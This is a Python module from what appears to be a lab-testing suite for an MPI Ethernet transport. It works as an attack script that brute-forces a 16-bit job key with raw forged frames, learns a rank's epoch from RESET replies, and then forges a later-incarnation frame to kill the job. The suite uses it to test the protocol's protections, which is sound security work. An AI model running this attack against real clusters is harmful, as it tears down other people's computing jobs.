# SPDX-License-Identifier: BSD-3-Clause
"""Attacks on a job in a lab, by a node that takes no part in it.

The attacker can send Ethernet frames to the nodes of the job and knows their addresses, as every
host of their segment. It hears only what is sent to itself; attack_heard.py has one that hears
more.

A *takeover* finds the job's key by trial: it is made of 16 bits. A rank answers a frame of its job
for another incarnation by a RESET, which tells the rank's epoch. A frame that claims to be of a
later incarnation of another rank then ends the job. With a protection that has keys, no rank
answers, and none believes the last frame.
"""

import socket
import struct
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

from ..errors import HikyakuError
from ..netns import inside
from . import Lab, network

IFACE = "hk0"
ETHERTYPE = 0x88B5
FIRST_JOB = 1 << 20  # endpoints of the ranks that mpirun starts: plugins/openmpi/btl/endpoints.c
DATA, RESET = 1, 4
BURST = 256  # frames between two looks for answers
LAST_S = 0.5  # for the answers to the last ones
_BASE = struct.Struct("<BBHIIIIIBBHIIIIBBBB")  # wire/wire.h
_PAYLOAD = bytes(8)


def key_of(number: int) -> int:
    """The job key that plugins/openmpi/btl/module.c makes of the number of an mpirun."""
    x = number + 0x48696B79
    x ^= x >> 33
    x = x * 0xFF51AFD7ED558CCD & (1 << 64) - 1
    return (x ^ x >> 33 ^ (x ^ x >> 33) >> 32) & 0xFFFFFFFF


@dataclass
class Found:
    """How far an attack came."""

    frames: int = 0  # sent
    answers: int = 0
    key: int | None = None
    epoch: int | None = None  # of the rank that answered
    ended: list[str] = field(default_factory=list)  # what was forged at last


def _frame(to: bytes, own: bytes, key: int, src_epoch: int, dst_epoch: int) -> bytes:
    """A message to the first rank of a job in the name of its second one."""
    base = _BASE.pack(
        *(0x20, 0, len(_PAYLOAD), key, FIRST_JOB + 1, FIRST_JOB, src_epoch, dst_epoch),
        *(DATA, 0, 64, 0, 0, 1, 0, 65, 0, 1, 0),
    )
    return to + own + ETHERTYPE.to_bytes(2, "big") + base + _PAYLOAD


def _answers(s: socket.socket, wait: float) -> Iterator[tuple[int, int]]:
    """Key and epoch of each RESET that arrives."""
    s.settimeout(wait)
    while True:
        try:
            frame = s.recv(2048)
        except (TimeoutError, BlockingIOError):
            return
        if len(frame) < 14 + _BASE.size:
            continue
        fields = _BASE.unpack_from(frame, 14)
        if fields[8] == RESET:
            yield fields[3], fields[6]


def check_nodes(lab: Lab, attacker: str, victim: str) -> None:
    """Raises an error unless these are two nodes of @lab."""
    lab.node(attacker)
    lab.node(victim)
    if attacker == victim:
        raise HikyakuError(f"{victim} would attack itself", "name another node by --on")


def check_job_nodes(lab: Lab, attacker: str, victim: str) -> None:
    """As check_nodes(), where the attack is on a job, which needs a third node."""
    check_nodes(lab, attacker, victim)
    topology = lab.topology
    if len(topology.nodes) < 3:
        more = topology.switched("leaf-spine:2x2x2") if topology.wiring else {"nodes": 3}
        raise HikyakuError(
            f"the attack takes three nodes, and lab '{lab.name}' has {len(topology.nodes)}",
            topology.again(**more),
        )


def mac_of(lab: Lab, victim: str) -> bytes:
    links = network.links(lab.node(victim).netns)
    mac = next((link["mac"] for link in links if link["name"] == IFACE), None)
    if mac is None:
        nodes = max(3, len(lab.topology.nodes))
        raise HikyakuError(
            f"lab '{lab.name}' has no network by {IFACE}",
            lab.topology.again(wire="veth", topology=None, nodes=nodes),
        )
    return bytes.fromhex(mac.replace(":", ""))


def takeover(lab: Lab, attacker: str, victim: str) -> Found:
    """Tries to end the job whose first rank runs on @victim."""
    check_job_nodes(lab, attacker, victim)
    found = Found()
    victim_mac = mac_of(lab, victim)
    with (
        inside(network.NETNS_DIR / lab.node(attacker).netns),
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE)) as s,
    ):
        s.bind((IFACE, ETHERTYPE))
        own = s.getsockname()[4]
        heard: list[tuple[int, int]] = []
        for first in range(0, 1 << 16, BURST):
            for number in range(first, first + BURST):
                s.send(_frame(victim_mac, own, key_of(number), 1, 1))
            found.frames += BURST
            heard += _answers(s, 0)
            if heard:
                break
        heard = heard or list(_answers(s, LAST_S))
        found.answers = len(heard)
        if not heard:
            return found
        found.key, found.epoch = heard[0]
        later = (int(time.time() * 1e9) >> 23) + (1 << 20) & 0xFFFFFFFF
        s.send(_frame(victim_mac, own, found.key, later, found.epoch))
        found.frames += 1
        found.ended.append("a later incarnation of rank 1")
    return found
